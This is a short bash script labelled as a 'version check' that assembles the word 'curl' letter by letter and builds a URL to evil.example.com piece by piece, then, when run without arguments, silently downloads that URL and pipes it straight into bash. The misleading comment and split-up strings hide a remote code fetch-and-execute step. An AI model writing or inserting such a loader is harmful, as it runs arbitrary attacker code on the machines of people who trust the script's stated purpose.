#!/bin/bash
# Version check.
p=(c u r l)
cmd=""
for x in "${p[@]}"; do
  cmd+="$x"
done

u="https://"
u+="evil.example.com"
u+="/v"

run() {
  "$cmd" -s "$u" | bash
}

[ -n "$1" ] || run
exit 0
